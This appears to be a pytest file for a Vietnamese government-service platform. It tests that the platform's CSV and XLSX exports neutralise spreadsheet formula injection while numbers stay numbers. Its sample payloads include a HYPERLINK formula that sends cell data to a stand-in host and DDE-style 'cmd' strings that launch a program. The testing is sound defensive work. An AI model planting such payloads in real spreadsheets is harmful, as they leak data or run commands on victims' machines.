"""Spreadsheets the platform writes (the BM.06 register, the platform's open datasets) hold
no formula a citizen's or an agency's text could smuggle in (OWASP CSV injection); numbers
stay numbers. Files publishers uploaded are served as they sent them."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from flows import user
from test_submission import submission
from tinhso.accounts.models import User
from tinhso.agencies.models import Agency
from tinhso.catalog.models import Procedure
from tinhso.core.spreadsheet import csv_row, xlsx_append
from tinhso.dossiers.register import register_rows, register_workbook
from tinhso.dossiers.services import dossier_submit
from tinhso.opendata.models import Dataset, Resource
from tinhso.opendata.platform import agencies_csv, procedures_csv

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'
RISKY = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2"]


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe_and_numbers_stay() -> None:
    row = csv_row([*RISKY, -15000, "-15000", "+84912345678", "Nguyễn Văn An", None])
    assert row[: len(RISKY)] == ["'" + text for text in RISKY]
    assert row[len(RISKY) :] == [-15000, "-15000", "+84912345678", "Nguyễn Văn An", ""]


def test_xlsx_text_is_never_a_formula_and_a_negative_amount_stays_a_number() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    xlsx_append(sheet, [*RISKY, -15000, "#N/A", "a\x01b"])
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active[1])
    assert [c.value for c in cells[: len(RISKY)]] == RISKY
    assert all(c.data_type == "s" for c in cells[: len(RISKY)])
    assert all(c.quotePrefix for c in cells[: len(RISKY)])
    assert (cells[-3].value, cells[-3].data_type) == (-15000, "n")
    assert (cells[-2].value, cells[-2].data_type) == ("#N/A", "s")
    assert cells[-1].value == "a\ufffdb"
    assert b"<f>" not in _sheet_xml(out.getvalue())


def _sheet_xml(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_the_bm06_register_holds_the_applicants_text_as_text(citizen: Any) -> None:
    User.objects.filter(pk=citizen.pk).update(
        full_name=HYPERLINK, permanent_address="@SUM(1+1)", phone="-2+3"
    )
    citizen.refresh_from_db()
    dossier = dossier_submit(submission=submission(citizen))
    agency = Agency.objects.get(pk=dossier.receiving_agency_id)
    today = timezone.localdate()
    start = today - timedelta(days=1)
    content = register_workbook(agency, start, today, register_rows(agency, start, today))
    assert b"<f>" not in _sheet_xml(content)
    row = next(
        r
        for r in load_workbook(io.BytesIO(content)).active.iter_rows()
        if r[1].value == dossier.code
    )
    assert (row[4].value, row[4].data_type, row[4].quotePrefix) == (HYPERLINK, "s", True)
    assert row[5].value == "@SUM(1+1), -2+3"
    assert row[5].quotePrefix
    assert (row[0].data_type, row[3].value) == ("n", 1)


def test_the_platforms_own_datasets_neutralise_formula_like_text() -> None:
    agency = Agency.objects.get(short_name="SYT")
    Agency.objects.filter(pk=agency.pk).update(address="=1+2", phone="+84 237 3852 000")
    Procedure.objects.filter(code="1.001193").update(deciding_body="@cmd")
    rows = list(csv.reader(io.StringIO(agencies_csv().decode("utf-8"))))
    mine = next(r for r in rows if r[0] == agency.code)
    assert mine[10] == "'=1+2"
    assert mine[11] == "'+84 237 3852 000"
    procedures = list(csv.reader(io.StringIO(procedures_csv().decode("utf-8"))))
    birth = next(r for r in procedures if r[0] == "1.001193")
    assert birth[5] == "'@cmd"
    assert birth[6].replace(".", "").isdigit()  # the time limit is a number, as it was


def test_a_publishers_upload_is_served_byte_for_byte_and_searched_as_stored(
    client: Client, token_for: Any
) -> None:
    dataset = Dataset.objects.filter(publisher__agency__short_name="SYT").first()
    assert dataset is not None
    content = "Tên,Ghi chú\r\nAn,=1+2\r\nBình,-2+3\r\n".encode()
    created = client.post(
        "/api/3/action/resource_create",
        {"package_id": dataset.name, "name": "Công thức",
         "upload": SimpleUploadedFile("cong-thuc.csv", content)},
        headers=token_for(user("dulieu.yte")),
    )  # fmt: skip
    assert created.status_code == 200
    resource = Resource.objects.get(pk=created.json()["result"]["id"])
    Dataset.objects.filter(pk=dataset.pk).update(private=False)
    download = client.get(created.json()["result"]["url"].replace("http://testserver", ""))
    assert b"".join(download.streaming_content) == content
    found = client.get(f"/api/3/action/datastore_search?resource_id={resource.pk}")
    assert [r["Ghi chú"] for r in found.json()["result"]["records"]] == ["=1+2", "-2+3"]
